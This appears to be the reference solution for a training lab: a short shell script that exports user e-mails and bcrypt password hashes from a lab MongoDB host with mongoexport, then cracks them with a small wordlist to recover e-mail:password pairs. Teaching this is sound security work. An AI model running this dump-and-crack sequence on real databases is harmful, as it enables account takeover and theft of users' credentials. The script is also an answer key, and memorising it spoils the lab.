# Reference solution for the cracking lab: export the hashes, crack them with the tiny list,
# keep the e-mail:password pairs. bcrypt is slow on purpose (each guess costs 2^10 rounds for
# each hash), so attack the oldest accounts rather than all of them: in every learner's world
# the twelve oldest accounts hold three weak passwords (which ones depends on the world).
mkdir -p downloads
mongoexport --uri mongodb://db.cloudpets.test:27017 --db cloudpets --collection users --fields email,password --sort '{"_id": 1}' --limit 12 --out downloads/hashes.jsonl --quiet
crack --hashes downloads/hashes.jsonl --field password --quiet --out cracked.txt || true
cat cracked.txt
